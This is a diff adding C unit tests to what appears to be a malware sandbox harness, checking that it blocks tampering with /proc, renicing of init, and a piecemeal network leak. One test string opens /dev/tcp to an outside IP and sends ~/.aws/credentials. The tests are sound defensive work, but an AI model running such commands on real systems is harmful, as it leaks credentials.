@@ -171,6 +171,46 @@ static void test_machine(void **state)
                           NULL));
 }
 
+/* What stands in for the host's files cannot be changed for the next box. */
+static void test_machine_stays(void **state)
+{
+    (void)state;
+    BENCH(b);
+    detonate(&b,
+             "exec 3</proc/cpuinfo; chmod 666 /proc/self/fd/3 && echo changed; "
+             "echo hello > /proc/self/fd/3 && echo written; true",
+             5000);
+    detonate(&b, "head -c 9 /proc/cpuinfo", 5000);
+    assert_true(line_with(&b, "detonation.output", "\"processor\"", NULL));
+    assert_false(line_with(&b, "detonation.output", "changed", NULL));
+    assert_false(line_with(&b, "detonation.output", "written", NULL));
+}
+
+/* Init is nobody's to slow down, nor is a group that it belongs to. */
+static void test_init_keeps_its_priority(void **state)
+{
+    (void)state;
+    BENCH(b);
+    detonate(&b, "renice -n 10 -p 1; renice -n 10 -u alex; renice -n 5 -p $$ && nice", 5000);
+    assert_true(line_with(&b, "kernel.denied", "\"syscall\":\"setpriority\"", "\"0x1\""));
+    assert_true(line_with(&b, "detonation.output", "new priority 5", NULL));
+    assert_false(line_with(&b, "detonation.output", "new priority 10", NULL));
+}
+
+/* What is sent late is still seen. */
+static void test_sent_in_pieces(void **state)
+{
+    (void)state;
+    BENCH(b);
+    detonate(&b,
+             "exec 3<>/dev/tcp/198.51.100.9/80 && echo one >&3 && sleep 0.05 && "
+             "head -2 ~/.aws/credentials >&3 && cat <&3",
+             5000);
+    if (line_with(&b, "sandbox.layer", "caught network", NULL))
+        skip();
+    assert_true(line_with(&b, "world.connection", "198.51.100.9", "\"one\\n["));
+}
+
 /* Folders of the home can be renamed as anywhere else: mv neither copies nor deletes, and what is a
  * bait stays one under its new name. */
 static void test_rename_folder(void **state)
@@ -341,12 +381,21 @@ int main(void)
         }
     }
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_frame),           cmocka_unit_test(test_theft),
-        cmocka_unit_test(test_machine),         cmocka_unit_test(test_rename_folder),
-        cmocka_unit_test(test_package_folder),  cmocka_unit_test(test_drops),
-        cmocka_unit_test(test_boxes_are_new),   cmocka_unit_test(test_denied),
-        cmocka_unit_test(test_python_and_node), cmocka_unit_test(test_wild),
-        cmocka_unit_test(test_daemon),          cmocka_unit_test(test_bad_options),
+        cmocka_unit_test(test_frame),
+        cmocka_unit_test(test_theft),
+        cmocka_unit_test(test_machine),
+        cmocka_unit_test(test_machine_stays),
+        cmocka_unit_test(test_init_keeps_its_priority),
+        cmocka_unit_test(test_sent_in_pieces),
+        cmocka_unit_test(test_rename_folder),
+        cmocka_unit_test(test_package_folder),
+        cmocka_unit_test(test_drops),
+        cmocka_unit_test(test_boxes_are_new),
+        cmocka_unit_test(test_denied),
+        cmocka_unit_test(test_python_and_node),
+        cmocka_unit_test(test_wild),
+        cmocka_unit_test(test_daemon),
+        cmocka_unit_test(test_bad_options),
         cmocka_unit_test(test_output_copy),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
